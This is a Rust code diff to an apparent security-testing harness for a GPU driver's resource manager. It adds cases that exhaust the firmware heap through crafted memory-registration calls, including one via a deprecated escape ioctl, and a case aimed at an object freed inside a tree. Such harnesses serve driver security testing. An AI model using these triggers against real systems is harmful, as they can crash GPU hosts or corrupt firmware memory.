@@ -4,7 +4,7 @@
 use super::{
     attack::{attacks, Own},
     rest::alone,
-    scene::{in_instances, open_client, told, Attacker, Place, GPU, MIB, OWN},
+    scene::{escape, in_instances, open_client, told, Attacker, Place, GPU, MIB, OWN},
 };
 use crate::{
     bytes::{put_u32, put_u64},
@@ -17,6 +17,14 @@ attacks! {
         Passes, Told, clients;
     "objects without end": "rs_client.c:clientAllocResource_IMPL", Passes, Told, objects;
     "events without end": "event.c:eventConstruct_IMPL", Passes, Told, events;
+    "the firmware's heap filled by a GPU's memory (REGISTER_MEMDESC_TO_PHYS_RM)": "mem.c:memConstructCommon_IMPL",
+        Passes, Gpu, |a| known(a, 0x40, 0x1_C101, 0x1800_0000);
+    "the firmware's heap filled by host memory (REGISTER_MEMDESC_TO_PHYS_RM)": "mem.c:memConstructCommon_IMPL",
+        Passes, Gpu, |a| known(a, rm::SYSTEM_MEMORY, 0xC001, 0x3A00_0000);
+    "the firmware's heap filled by the older call (RM_ALLOC_MEMORY)": "rmapi_deprecated_utils.c:RmDeprecatedConvertOs02ToOs32Flags",
+        Passes, Gpu, known_by_flag;
+    "an object freed inside a tree (REGISTER_MEMDESC_TO_PHYS_RM of addresses)": "mem.c:memConstructCommon_IMPL",
+        Passes, Gpu, |a| known(a, 0x50A0, 0x8_0000, 0);
 }
 
 /// More than an instance of 16 may have of each.
@@ -44,6 +52,27 @@ fn objects(attacker: &Attacker) -> Verdict {
     many(OBJECTS, "objects", |count| {
         attacker.alloc(rm::SUBDEVICE_HANDLE, OWN + count, rm::USERMODE, &mut [])
     })
+}
+
+/// Memory or a range of addresses of 2 MiB that the firmware is to know.
+fn known(attacker: &Attacker, class: u32, flags: u32, attr: u32) -> Verdict {
+    let mut params = rm::memory_params(attacker.client.handle, 2 * MIB);
+    put_u32(&mut params, 8, flags);
+    put_u32(&mut params, 24, attr);
+    put_u32(&mut params, 28, 1 << 31);
+    attacker.alloc(rm::DEVICE_HANDLE, OWN, class, &mut params)
+}
+
+/// Host memory that the firmware is to know: cached, and not mapped.
+fn known_by_flag(attacker: &Attacker) -> Verdict {
+    let mut outer = [0; 56];
+    put_u32(&mut outer, 0, attacker.client.handle);
+    put_u32(&mut outer, 4, rm::DEVICE_HANDLE);
+    put_u32(&mut outer, 8, OWN);
+    put_u32(&mut outer, 12, rm::SYSTEM_MEMORY);
+    put_u32(&mut outer, 16, 1 << 27 | 0x4000_1000);
+    put_u64(&mut outer, 32, 2 * MIB - 1);
+    told(escape(attacker.client.gpu, 0x27, &mut outer, 40))
 }
 
 fn events(attacker: &Attacker) -> Verdict {
